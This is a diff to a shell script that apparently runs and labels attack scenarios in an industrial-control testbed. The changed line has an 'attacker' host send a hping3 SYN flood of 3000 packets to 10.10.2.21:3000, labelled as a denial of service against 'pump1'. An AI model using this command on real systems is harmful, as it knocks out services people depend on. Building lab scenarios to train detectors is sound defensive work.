@@ -6,7 +6,7 @@ scenario_run() {
   sleep 6
   local t0 t1
   t0=$(now)
-  fg attacker hping3 20 hping3 -q -S -p 3000 -i u500 -c 3000 10.10.2.21
+  run_in attacker hping3 20 hping3 -q -S -p 3000 -i u500 -c 3000 10.10.2.21
   t1=$(now)
   label syn_flood T0814 attacker pump1 "$t0" "$t1" \
     "hping3 -S: 3000 TCP SYN to 10.10.2.21:3000 at about 2000 packets/s"
